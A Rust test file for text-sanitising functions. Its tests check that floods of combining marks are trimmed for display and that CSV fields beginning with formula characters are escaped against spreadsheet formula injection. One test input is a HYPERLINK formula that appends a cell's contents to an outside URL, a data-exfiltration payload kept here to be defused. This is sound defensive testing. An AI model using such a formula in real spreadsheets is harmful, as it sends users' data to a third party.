//! Texts as screens and spreadsheets get them.

use rules::{csv_field, printable, printable_prefix, printable_text};

#[test]
fn of_a_heap_of_marks_on_a_letter_eight_stay() {
    let heap = "\u{301}".repeat(2_000_000);
    let eight = "\u{301}".repeat(8);
    assert_eq!(printable(&format!("a{heap}b{heap}")), format!("a{eight}b{eight}"));
    assert_eq!(printable_text(&format!("a{heap}\n{heap}")), format!("a{eight}\n{eight}"));
    assert_eq!(printable_prefix(&heap, 1000), format!("{eight}…"));
    // Marks of several kinds are one heap, and what a control character was is a letter.
    assert_eq!(printable(&"\u{336}\u{93f}\u{20dd}".repeat(9)).chars().count(), 8);
    assert_eq!(printable(&"\u{301}\u{7}".repeat(20)).chars().count(), 40);
    for written in ["ộ", "e\u{302}\u{323}", "กี่", "हिन्दी", "בְּרֵאשִׁ֖ית", "ཧཀྵྨལཝརཡཾ"]
    {
        assert_eq!(printable(written), written);
    }
}

#[test]
fn a_name_is_not_a_formula_in_a_spreadsheet() {
    for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1"] {
        assert_eq!(csv_field(formula), format!("'{formula}"));
    }
    assert_eq!(csv_field("\r=1"), "\"'\r=1\"", "an end of a line is quoted");
    let link = "=HYPERLINK(\"http://example.org/\"&A1,\"x\")";
    assert_eq!(csv_field(link), "\"'=HYPERLINK(\"\"http://example.org/\"\"&A1,\"\"x\"\")\"");
    for name in ["Ann", "a-b", "'quoted", "1=1"] {
        assert_eq!(csv_field(name), name);
    }
}
